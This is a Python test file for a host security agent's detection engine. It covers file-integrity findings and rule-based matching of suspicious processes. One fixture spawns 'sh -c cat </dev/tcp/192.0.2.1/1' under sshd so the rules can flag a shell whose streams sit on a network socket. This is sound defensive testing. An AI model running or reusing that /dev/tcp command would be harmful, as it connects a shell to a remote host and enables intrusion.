import subprocess
import sys

from msgspec import structs

from agent.sense.contentstore import NO_INDICATORS
from agent.sense.match.context import MatchContext
from agent.sense.match.judge import judge
from agent.sense.match.packaged import MODIFIED, UNLIKE
from agent.sense.match.sigmafindings import RuleJudge
from proto.model import File, FindingKind, ObservationKind
from tests.collector.content.rulesources import own
from tests.proto.builders import a_process, an_observation

CONTEXT = MatchContext(b"t" * 16, b"h" * 16, NO_INDICATORS, None, 0)


def test_what_one_room_sees_in_an_observation_is_told_beside_the_others() -> None:
    changed = File("/usr/bin/ls", mode=0o100755, package="coreutils", caveats=(UNLIKE,))
    observation = an_observation(changed, kind=ObservationKind.FILE_CHANGED)

    (finding,) = judge(observation, CONTEXT)

    assert (finding.rule, finding.kind) == (MODIFIED, FindingKind.INTEGRITY)


def test_rules_judge_beside_the_others_where_there_are_any() -> None:
    shell = a_process(exe="/bin/sh", argv=("sh", "-c", "cat </dev/tcp/192.0.2.1/1"))
    parent = a_process(exe="/usr/sbin/sshd")
    observation = an_observation(shell, ancestry=(parent,))

    (finding,) = judge(observation, structs.replace(CONTEXT, rules=RuleJudge(own().rules)))

    assert finding.title == "Shell With Its Streams On A Socket"
    assert judge(observation, CONTEXT) == ()


def test_a_host_without_rules_loads_nothing_to_judge_by_them() -> None:
    code = (
        "import sys, agent.sense.wiring; "
        "print([name for name in sys.modules if 'sigma' in name or name in ('re2', 'yaml')])"
    )

    done = subprocess.run([sys.executable, "-c", code], capture_output=True, check=True, text=True)

    assert done.stdout.strip() == "[]"
